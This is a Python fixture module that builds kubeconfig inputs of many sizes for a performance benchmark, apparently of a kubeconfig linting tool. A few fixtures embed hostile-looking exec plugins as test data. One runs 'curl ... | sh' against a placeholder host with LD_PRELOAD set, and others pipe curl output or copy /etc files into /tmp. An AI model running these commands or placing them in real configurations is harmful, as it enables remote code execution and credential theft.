"""Files of any size, each hard on something: for the measure of what a run may cost (`make speed`, test_speed.py)."""

import json
from collections.abc import Mapping
from typing import Any, Final, NamedTuple

import yaml


class Shape(NamedTuple):
    """Texts in turn. Those in `repeated` are written as often as fit, with their number for %N."""

    texts: tuple[str, ...]
    repeated: tuple[int, ...] = (1,)

    def text(self, size: int) -> str:
        """As much of it as fits into `size` characters, and at least one of each."""
        fixed = sum(len(each) for number, each in enumerate(self.texts) if number not in self.repeated)
        once = sum(len(self.texts[each].replace("%N", "12345")) for each in self.repeated)
        times = max(1, (size - fixed) // once)
        return "".join(
            "".join(each.replace("%N", str(count)) for count in range(times)) if number in self.repeated else each
            for number, each in enumerate(self.texts)
        )


ID: Final = "6dae42f8-4368-4678-94ff-3960e28e3630"
OLD: Final = {
    "apiserver-id": ID,
    "client-id": ID,
    "tenant-id": ID,
    "environment": "AzurePublicCloud",
    "config-mode": "1",
}


def provider(name: str, **config: str) -> dict[str, Any]:
    return {"auth-provider": {"name": name, "config": {key.replace("_", "-"): value for key, value in config.items()}}}


def plugin(command: str, *arguments: str, **variables: str) -> dict[str, Any]:
    env = [{"name": name, "value": value} for name, value in variables.items()]
    version = "client.authentication.k8s.io/v1beta1"
    return {"exec": {"apiVersion": version, "command": command, "args": [*arguments], **({"env": env} if env else {})}}


#: Users of each kind.
USERS: Final[Mapping[str, Mapping[str, Any]]] = {
    "azure": {
        "auth-provider": {"name": "azure", "config": {**OLD, "environment": "Nowhere", "access-token": "eyJ" + "x" * 60}}
    },
    "azure-old": {"auth-provider": {"name": "azure", "config": OLD}},
    "kubelogin": plugin("kubelogin", "get-token", "--server-id", ID, "--tenant-id", ID, "--client-id", ID),
    "kubelogin-bare": plugin("kubelogin", "get-token"),
    "kubelogin-odd": plugin(
        "kubelogin", "get-token", f"--server-id={ID}", "--login", "spn", "--client-secert=s", "x%N", "--pop-claims", "u=/a",
        AAD_LOGIN_METHOD="msi",
    ),
    "gcp": provider("gcp", cmd_path="/usr/bin/gcloud", cmd_args="config config-helper", token_key="{.access_token}"),
    "oidc": provider(
        "oidc", idp_issuer_url="https://i.example/%N", client_id="c", client_secret="s", id_token="eyJ.e.y",
        idp_certificate_authority="ca%N",
    ),
    "aws": plugin("aws", "eks", "get-token", "--cluster-name", "c%N", "--role", "arn:aws:iam::1:role/x", AWS_PROFILE="p%N"),
    "shell": plugin(
        "sh", "-c", "curl -H 'Authorization: Bearer s%N' https://u:p@e%N.example/x?sig=1 | sh", LD_PRELOAD="/tmp/x%N"
    ),
    "v1alpha1": {"exec": {"apiVersion": "client.authentication.k8s.io/v1alpha1", "command": "gke-gcloud-auth-plugin"}},
    "token": {"token": "eyJ%N", "tokenFile": "t%N", "username": "u", "password": "p"},
    "certificates": {
        "client-certificate": "c%N", "client-key": "k%N", "client-certificate-data": "LS0t", "client-key-data": "%%%"
    },
    "empty": {},
    "wrong": {"token": ["s%N"], "exec": "sh -c s%N", "auth-provider": ["azure"], "unknown%N": 1, "Token": "x"},
}  # fmt: skip


def one_line(user: Mapping[str, Any]) -> Shape:
    entry = json.dumps({"name": "u%N", "user": user})
    return Shape(('{"apiVersion": "v1", "kind": "Config", "users": [', entry + ", ", '{"name": "last", "user": {}}]}'))


def one_line_in_use(user: Mapping[str, Any]) -> Shape:
    """With a context and a cluster for each user."""
    return Shape(
        (
            '{"apiVersion": "v1", "kind": "Config", "users": [',
            json.dumps({"name": "u%N", "user": user}) + ", ",
            '{"name": "last", "user": {}}], "clusters": [',
            json.dumps({"name": "c%N", "cluster": {"server": "https://c%N.example"}}) + ",",
            '{"name": "last", "cluster": {}}], "contexts": [',
            json.dumps({"name": "x%N", "context": {"cluster": "c%N", "user": "u%N"}}) + ",",
            '{"name": "last", "context": {}}]}',
        ),
        (1, 3, 5),
    )


def block(user: Mapping[str, Any]) -> Shape:

    body = yaml.safe_dump([{"name": "u%N", "user": user}], sort_keys=False)
    cluster = yaml.safe_dump(
        [
            {
                "name": "c%N",
                "cluster": {
                    "server": "https://c%N.example",
                    "certificate-authority-data": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t",
                },
            }
        ],
        sort_keys=False,
    )
    context = yaml.safe_dump([{"name": "x%N", "context": {"cluster": "c%N", "user": "u%N"}}], sort_keys=False)
    return Shape(
        ("apiVersion: v1\nkind: Config\nusers:\n", body, "clusters:\n", cluster, "contexts:\n", context), (1, 3, 5)
    )


HEAD = "apiVersion: v1\nkind: Config\n"
BODY = HEAD + "users:\n- name: me\n  user:\n"
EXEC = BODY + "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      interactiveMode: Never\n"
KUBELOGIN = EXEC + f"      command: kubelogin\n      args:\n      - get-token\n      - --server-id\n      - {ID}\n"
PROVIDER = BODY + f"    auth-provider:\n      name: azure\n      config:\n        apiserver-id: {ID}\n"
ONE = (
    "users:\n- name: me\n  user: {auth-provider: {name: azure, config: {apiserver-id: s, tenant-id: t, client-id: c}}}\n"
    "contexts:\n- name: c\n  context: {cluster: c, user: me}\n"
    "clusters:\n- name: c\n  cluster: {server: https://e.example}\ncurrent-context: c\n"
)

SHAPES: Final[Mapping[str, Shape]] = {
    **{f"one line, {name}": one_line(user) for name, user in USERS.items()},
    **{f"one line in use, {name}": one_line_in_use(user) for name, user in USERS.items()},
    **{f"block, {name}": block(user) for name, user in USERS.items()},
    "flow users {name: u}": Shape(("users: [", "{name: u},", "]\n")),
    "flow users {name: uN}": Shape(("users: [", "{name: u%N},", "]\n")),
    "flow contexts": Shape(("contexts: [", "{name: c%N, context: {cluster: a%N, user: b%N}},", "]\n")),
    "flow clusters": Shape(
        ("clusters: [", "{name: c%N, cluster: {server: 'http://u:p@127.0.0.%N/x', proxy-url: x%N}},", "]\n")
    ),
    "azure users that differ": Shape(
        (
            "users:\n",
            "- name: u%N\n  user: {auth-provider: {name: azure, config: "
            f"{{apiserver-id: {ID}, client-id: c%N, tenant-id: t%N}}}}}}\n",
        )
    ),
    "azure contexts that differ": Shape(
        (
            f"{HEAD}clusters:\n",
            "- name: c%N\n  cluster: {server: 'https://c%N.hcp.westeurope.azmk8s.io:443'}\n",
            "contexts:\n",
            "- name: x%N\n  context: {cluster: c%N, user: u%N}\n",
            "users:\n",
            "- name: u%N\n  user:\n    auth-provider:\n      name: azure\n      config:\n"
            f"        apiserver-id: {ID}\n        client-id: {ID[:-5]}%N\n        tenant-id: {ID[:-6]}%N\n"
            "        environment: AzurePublicCloud\n        config-mode: '1'\n",
        ),
        (1, 3, 5),
    ),
    "plugins that differ": Shape(
        (
            "users:\n",
            "- name: u%N\n  user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: p%N, "
            "args: [a%N, --b, c%Nd]}}\n",
        )
    ),
    "names of OpenShift": Shape(
        (
            "users:\n",
            "- {name: ns%N/api-c%N-example-com:6443/kube:admin, "
            "user: {tokenFile: t%N, username: u, auth-provider: {name: azure, config: {client-id: secret-%N}}}}\n",
        )
    ),
    "odd users": Shape(
        (
            "users:\n",
            "- {name: u%N, user: {tokenFile: {a: x}, user: true, tokenFile: [b%N], Token: c, tokn: d, exec: [x], as: 1}}\n",
        )
    ),
    "signs in quotes": Shape(
        (
            HEAD + "users:\n",
            "- {name: u%N, user: {exec: {command: c, args: ['a}: %N', '{[b%N']}}}\n",
            "clusters:\n",
            "- {name: c%N, cluster: {server: 'https://e%N', certificate-authority-data: x, certificate-authority: y}}\n",
            "contexts:\n",
            "- {name: x%N, context: {cluster: c%N, user: v%N, namespace: A_}}\n",
        ),
        (1, 3, 5),
    ),
    "empty items": Shape(("users:\n", "-\n")),
    "empty items everywhere": Shape(("users:\n", "-\n", "contexts:\n", "-\n", "clusters:\n", "-\n"), (1, 3, 5)),
    "flow nulls": Shape(("users: [", ",\n", "]\n")),
    "flow empty maps": Shape(("users: [", "{},", "]\n")),
    "flow empty lists": Shape((ONE + "x: [", "[],", "]\n")),
    "explicit keys": Shape(("", "? a%N\n")),
    "explicit same keys": Shape(("", "? a\n")),
    "explicit keys in a user": Shape((BODY, "    ? a%N\n    : b\n")),
    "eyJ": Shape(("x: '", "eyJ", "'\n")),
    "eyJ.": Shape(("x: '", "eyJ.", "'\n")),
    "dangling users": Shape(
        (
            HEAD + "users:\n",
            "- name: user-%N\n  user: {token: a}\n",
            "contexts:\n",
            "- name: c%N\n  context: {cluster: clustr-%N, user: usr-%N}\n",
            "clusters:\n",
            "- name: cluster-%N\n  cluster: {server: https://e.example}\n",
        ),
        (1, 3, 5),
    ),
    "dangling long names": Shape(
        (
            HEAD + "users:\n",
            "- name: " + "a" * 500 + "%N\n  user: {token: a}\n",
            "contexts:\n",
            "- name: c%N\n  context: {cluster: c, user: " + "a" * 499 + "b%N}\n",
        ),
        (1, 3),
    ),
    "one long dangling name": Shape(
        (
            HEAD + "users:\n- name: ",
            "ab",
            "\n  user: {token: a}\ncontexts:\n- name: c\n  context: {cluster: c, user: ",
            "ac",
            "}\n",
        ),
        (1, 3),
    ),
    "comments": Shape((PROVIDER, "        # %N\n", "        tenant-id: t\n")),
    "comments with secrets": Shape((PROVIDER, "        # token: eyJ%N password=%N\n", "        tenant-id: t\n")),
    "ignore comments": Shape((HEAD + "users:\n", "# kubeconv: ignore[KC301, KC%N]\n- name: u%N\n")),
    "blank lines": Shape((PROVIDER, "\n", "        tenant-id: t\n")),
    "long token": Shape((BODY + "    token: ", "s3cr3t", "\n")),
    "long block scalar": Shape((BODY + "    token: |\n", "      abc def\n")),
    "long folded scalar": Shape((BODY + "    token: >\n", "      abc def\n\n")),
    "long double quoted": Shape((BODY + '    token: "', "\\x41\\n", '"\n')),
    "long double quoted lines": Shape((BODY + '    token: "', "\\x41 a\n     ", '"\n')),
    "long plain multi-line": Shape((BODY + "    token: a\n", "      abc def\n")),
    "long name": Shape(("users:\n- name: ", "x", "\n  user: {}\n")),
    "long server": Shape(
        ("clusters:\n- name: c\n  cluster: {server: 'https://", "a.", "', proxy-url: 'http://", "%25", "'}\n"), (1, 3)
    ),
    "long server 2": Shape(
        ("clusters:\n- name: c\n  cluster: {server: '", "a:", "', proxy-url: 'http://[", "::", "'}\n"), (1, 3)
    ),
    "long command": Shape((EXEC + "      command: '", "sh -c x ", "'\n")),
    "long argument": Shape((KUBELOGIN + "      - '", "--client-secret=s ", "'\n")),
    "long argument eyJ": Shape((KUBELOGIN + "      - '", "eyJ", "'\n")),
    "long template": Shape((BODY + "    token: '", "{{ ", "'\n")),
    "long argument dashes": Shape((KUBELOGIN + "      - '", "-", "'\n")),
    "long sh -c": Shape((EXEC + "      command: sh\n      args: ['-c', '", "curl https://a.b/x -H s; ", "']\n")),
    "long sh -c url": Shape((EXEC + "      command: sh\n      args: ['-c', '", "https://a@", "']\n")),
    "long sh -c paths": Shape((EXEC + "      command: sh\n      args: ['-c', '", "cat /etc/x > /tmp/y%N && ", "']\n")),
    "long sh quotes": Shape((EXEC + "      command: sh\n      args: ['-c', '", 'a=\\"b ', "']\n")),
    "long cmd-args": Shape(
        (BODY + "    auth-provider: {name: gcp, config: {cmd-path: /bin/x, cmd-args: '", "--a b ", "'}}\n")
    ),
    "long installHint": Shape((EXEC + "      command: x\n      installHint: '", "Word and word. ", "'\n")),
    "long data": Shape(
        ("clusters:\n- name: c\n  cluster: {server: https://e, certificate-authority-data: ", "QUJD", "}\n")
    ),
    "long bad data": Shape(
        ("clusters:\n- name: c\n  cluster: {server: https://e, certificate-authority-data: ", "=-=", "}\n")
    ),
    "arguments": Shape((KUBELOGIN, "      - x%N\n")),
    "unknown flags": Shape((KUBELOGIN, "      - --flag-%N\n")),
    "unknown flags with values": Shape((KUBELOGIN, "      - --flag-%N=v\n")),
    "secret flags": Shape((KUBELOGIN, "      - --client-secert\n      - s3cret%N\n")),
    "secret flags with variables": Shape((KUBELOGIN, "      - --password=s3cret%N\n")),
    "known flags": Shape((KUBELOGIN, "      - --tenant-id\n      - t%N\n")),
    "flow arguments": Shape(
        (EXEC + "      command: kubelogin\n      args: [get-token, --server-id, s", ", x%N", "]\n")
    ),
    "flow flags": Shape((EXEC + "      command: kubelogin\n      args: [get-token, --server-id, s", ", --x%N", "]\n")),
    "arguments of a shell": Shape((EXEC + "      command: sh\n      args:\n", "      - /etc/x%N\n")),
    "arguments of aws": Shape(
        (
            EXEC + "      command: aws\n      args: [eks, get-token]\n      args:\n      - eks\n      - get-token\n",
            "      - --x%N\n      - https://e%N.example\n",
        )
    ),
    "arguments that are URLs": Shape(
        (EXEC + "      command: aws\n      args:\n", "      - https://h%N.example/a%NbC?sig=x%Ny\n")
    ),
    "arguments with percent signs": Shape((KUBELOGIN, "      - 'a%41%42%43%44%2F%N'\n")),
    "env URLs": Shape(
        (EXEC + "      command: x\n      env:\n", "      - {name: A%N_URL, value: 'https://h%N.example:8443/a?x=%N'}\n")
    ),
    "env": Shape((KUBELOGIN + "      env:\n", "      - {name: X%N, value: v%N}\n")),
    "env LD": Shape((EXEC + "      command: x\n      env:\n", "      - {name: LD_PRELOAD, value: /v%N}\n")),
    "env LD_N": Shape((EXEC + "      command: x\n      env:\n", "      - {name: LD_%N, value: /v%N}\n")),
    "env nameless": Shape((EXEC + "      command: x\n      env:\n", "      - {Name: X%N, Value: v}\n")),
    "env flow": Shape((EXEC + "      command: x\n      env: [", "{name: PATH%N, value: '/a:b'}, ", "]\n")),
    "env empty": Shape((EXEC + "      command: x\n      env: [", "{},", "]\n")),
    "env strings": Shape((EXEC + "      command: x\n      env: [", "A=b,", "]\n")),
    "anchors": Shape((HEAD + "users:\n", "- name: u%N\n  user: &u%N {token: a}\n", "x:\n", "- *u%N\n"), (1, 3)),
    "aliases to one": Shape((f"x: &x {json.dumps(USERS['azure'])}\nusers:\n", "- name: u%N\n  user: *x\n")),
    "aliases of names": Shape(("x: &x me\nusers:\n", "- name: *x\n  user: {}\n")),
    "aliases in contexts": Shape((ONE + "x: &x {cluster: c, user: me}\ncontexts:\n", "- name: c%N\n  context: *x\n")),
    "merge keys": Shape((f"x: &x {json.dumps(USERS['azure'])}\nusers:\n", "- name: u%N\n  user: {<<: *x}\n")),
    "merge of many": Shape(("x: &x {token: a}\nusers:\n- name: me\n  user:\n    <<: [", "*x, ", "]\n")),
    "many merge keys": Shape(
        (f"x: &x {json.dumps(USERS['azure'])}\n" + "users:\n- name: me\n  user:\n", "    <<: *x\n")
    ),
    "chain of merges": Shape(("x0: &x {}\n", "x%N: &x {<<: *x, k%N: v}\n")),
    "chain of merges, distinct": Shape(("m: [&m {}, ", "&m {<<: *m, a: b}, ", "]\n")),
    "duplicate keys": Shape((BODY, "    token: t%N\n")),
    "duplicate users": Shape((HEAD + "users:\n", "- name: me\n  user: {token: t%N}\n")),
    "duplicate in pairs": Shape(
        (HEAD + "users:\n", "- name: u%N\n  user: {token: t}\n- name: u%N\n  user: {token: t2}\n")
    ),
    "duplicate same contexts": Shape((HEAD + "contexts:\n", "- name: me\n  context: {cluster: c, user: u}\n")),
    "duplicate same users flow": Shape((HEAD + "users: [", "{name: me, user: {}}, ", "]\n")),
    "duplicate root keys": Shape(("", "users: []\n")),
    "unknown root keys": Shape((ONE, "key%N: v\n")),
    "misspelt keys": Shape((HEAD + "users:\n", "- nme: u%N\n  usr: {tokn: t}\n")),
    "wrong case keys": Shape((HEAD + "users:\n", "- Name: u%N\n  User: {Token: t}\n")),
    "keys in a user": Shape((BODY, "    key-%N: v\n")),
    "provider config": Shape((PROVIDER, "        key-%N: v\n")),
    "provider config flow": Shape(
        (BODY + "    auth-provider: {name: azure, config: {apiserver-id: s, ", "k%N: v, ", "}}\n")
    ),
    "provider config oidc": Shape(
        (
            BODY + "    auth-provider:\n      name: oidc\n      config:\n        idp-issuer-url: https://e\n",
            "        key-%N: v\n",
        )
    ),
    "provider config numbers": Shape((PROVIDER, "        %N: 1e3\n")),
    "extensions": Shape(
        (
            BODY + "    auth-provider: {name: azure, config: {apiserver-id: s, tenant-id: t}}\n    extensions:\n",
            "    - {name: e%N, extension: {a: 1}}\n",
        )
    ),
    "extensions same": Shape((BODY + "    extensions:\n", "    - {name: e, extension: 1}\n")),
    "nested": Shape((ONE + "x:\n", "- " + "[" * 90 + "1" + "]" * 90 + "\n")),
    "nested 900": Shape((ONE + "x:\n", "- " + "[" * 900 + "1" + "]" * 900 + "\n")),
    "nested maps 300": Shape((ONE + "x:\n", "- " + "{a: " * 300 + "1" + "}" * 300 + "\n")),
    "nested blocks": Shape((ONE + "x:\n", "- " * 400 + "a\n")),
    "brackets": Shape(("users: ", "[")),
    "braces": Shape(("users: ", "{")),
    "open keys": Shape(("users: ", "{a: ")),
    "dashes": Shape(("users: ", "- ")),
    "questions": Shape(("", "? ")),
    "colons": Shape(("", ": ")),
    "quotes": Shape(("", '"" ')),
    "ampersands": Shape(("a: ", "&a ")),
    "stars": Shape(("a: &a b\nb: [", "*a, ", "]\n")),
    "tags": Shape((ONE + "x:\n", "- !!str a%N\n")),
    "unknown tags": Shape((ONE + "x:\n", "- !x%N a\n")),
    "binary": Shape((HEAD + "users:\n", "- name: !!binary dTE=\n  user: {!!binary dG9rZW4=: a%N}\n")),
    "directives": Shape(("", "%TAG !a%N! tag:x\n", "---\na: b\n")),
    "documents": Shape((ONE, "---\na: %N\n")),
    "broken at the end": Shape((HEAD + "users:\n", "- {name: u%N, user: {token: s3cret%N}}\n", "x: [\n")),
    "broken long line": Shape((HEAD + "users: [", "{name: u%N, token: s3cret%N}, ", "\n")),
    "broken long line tabs": Shape((HEAD + "a: b\n\tc: ", "password: x", "\n")),
    "broken words": Shape(("", "password s3cret%N ", "\n- a: b: c\n")),
    "broken text": Shape(("", "word word: word %N\n", "a: b: c\n")),
    "tabs": Shape((BODY + "    token:", "\t", "x\n")),
    "tabs lines": Shape((PROVIDER, "\t\n", "        tenant-id: t\n")),
    "CRLF": Shape(
        (
            HEAD.replace("\n", "\r\n") + "users:\r\n",
            "- name: u%N\r\n  user: {exec: {command: kubelogin, args: [get-token, --server-id, s]}}\r\n",
        )
    ),
    "CR": Shape((HEAD.replace("\n", "\r") + "users:\r", "- name: u%N\r  user: {token: a}\r")),
    "bidi": Shape((HEAD + "users:\n", '- name: "u\\u202e%N"\n  user: {token: a}\n')),
    "escapes": Shape((HEAD + "users:\n", '- name: "u\\e[1m%N"\n  user: {token: a}\n')),
    "non-ascii": Shape((HEAD + "users:\n", "- name: \u00e9\u4e2d%N\n  user: {token: a}\n")),
    "json indented": Shape(
        (
            json.dumps({"users": 0}, indent=1)[:-2] + "[\n",
            json.dumps({"name": "u%N", "user": USERS["azure"]}, indent=2) + ",\n",
            "{}]}\n",
        )
    ),
    "json deep columns": Shape(
        (
            "{\n" + " " * 500 + '"users": [\n',
            " " * 500 + json.dumps({"name": "u%N", "user": USERS["azure-old"]}) + ",\n",
            "{}]}\n",
        )
    ),
    "json of something else": Shape(('{"items": [', '{"kind": "Pod", "metadata": {"name": "p%N"}},', "{}]}\n")),
    "lists": Shape(("", "- a\n")),
    "words": Shape(("", "word ")),
    "nothing but blanks": Shape(("", " ")),
    "base64": Shape(("", "QUJD")),
    "jwt": Shape(("eyJ", "abc.", "\n")),
    "PEM": Shape(
        (
            BODY + "    client-key-data: |\n      -----BEGIN PRIVATE KEY-----\n",
            "      MIIE%N\n",
            "      -----END PRIVATE KEY-----\n",
        )
    ),
    "many PEM": Shape(
        (
            "clusters:\n- name: c\n  cluster:\n    certificate-authority: |\n",
            "      -----BEGIN CERTIFICATE-----\n      MIIE\n      -----END CERTIFICATE-----\n",
        )
    ),
    "as-groups": Shape((BODY + "    as: x\n    as-groups:\n", "    - g%N\n")),
    "as-user-extra": Shape((BODY + "    as: x\n    as-user-extra:\n", "      k%N: [v]\n")),
    "templates": Shape((HEAD + "users:\n", "- name: {{ .Name%N }}\n")),
    "templates quoted": Shape((HEAD + "users:\n", "- name: '{{ .Name%N }}'\n  user: {token: '${T%N}'}\n")),
    "contexts of one user": Shape(
        (
            HEAD + "users:\n- name: me\n  user: " + json.dumps(USERS["azure"]) + "\ncontexts:\n",
            "- name: c%N\n  context: {cluster: c, user: me}\n",
        )
    ),
    "contexts of many arguments": Shape(
        (
            HEAD + "contexts:\n",
            "- name: c%N\n  context: {cluster: c, user: me}\n",
            EXEC.removeprefix(HEAD) + "      command: x\n      args:\n",
            "      - a%N\n",
        ),
        repeated=(1, 3),
    ),
    "contexts of many variables": Shape(
        (
            HEAD + "contexts:\n",
            "- name: c%N\n  context: {cluster: c, user: me}\n",
            EXEC.removeprefix(HEAD) + "      command: x\n      env:\n",
            "      - {name: N%N, value: a}\n",
        ),
        repeated=(1, 3),
    ),
    "contexts of a long path": Shape(
        (
            HEAD + "clusters:\n- name: c\n  cluster: {server: 'https://e.example', certificate-authority: '",
            "some words ",
            "'}\ncontexts:\n",
            "- name: c%N\n  context: {cluster: c, user: me}\n",
        ),
        repeated=(1, 3),
    ),
    "aliases of a long text": Shape(
        (
            HEAD + "x: &x '",
            "some words ",
            "'\nusers:\n",
            "- name: u%N\n  user: {auth-provider: {name: azure, config: {apiserver-id: s, client-id: c, tenant-id: *x }}}\n",
        ),
        repeated=(1, 3),
    ),
    "aliases of a long name": Shape(
        (HEAD + "x: &x '", "some words ", "'\ncontexts:\n", "- name: c%N\n  context: {cluster: *x , user: *x }\n"),
        repeated=(1, 3),
    ),
    "namespaces": Shape((ONE + "contexts:\n", "- name: c%N\n  context: {cluster: c, user: me, namespace: A_%N}\n")),
    "unused": Shape(
        (
            HEAD + "users:\n",
            "- name: u%N\n  user: {token: a}\n",
            "clusters:\n",
            "- name: c%N\n  cluster: {server: https://e}\n",
        ),
        (1, 3),
    ),
    "wrong types": Shape((HEAD + "users:\n", "- name: [u%N]\n  user: x\n")),
    "strings as users": Shape((HEAD + "users:\n", "- s3cret%N\n")),
    "users as a map": Shape((HEAD + "users:\n", "  u%N: {token: t}\n")),
    "null names": Shape((HEAD + "users:\n", "- name:\n  user: {token: a}\n")),
    "ca files": Shape(
        (HEAD + "clusters:\n", "- name: c%N\n  cluster: {server: https://e, certificate-authority: /a/b/../c%N}\n")
    ),
    "binary NUL": Shape((ONE, "\0")),
    "control": Shape((ONE + "x: '", "\x1b[1m", "'\n")),
    "bytes": Shape((ONE + "x: '", "\x80\xff", "'\n")),
    "numbers": Shape((ONE + "x:\n", "- 1%N\n")),
    "long number": Shape((ONE + "x: ", "9", "\n")),
    "long float": Shape((ONE + "x: 0.", "9", "e1\n")),
    "long sexagesimal": Shape((ONE + "x: 1", ":1", "\n")),
    "numbers as keys": Shape((BODY + "    extensions:\n    - name: e\n      extension:\n", "        1%N: 1e3\n")),
}
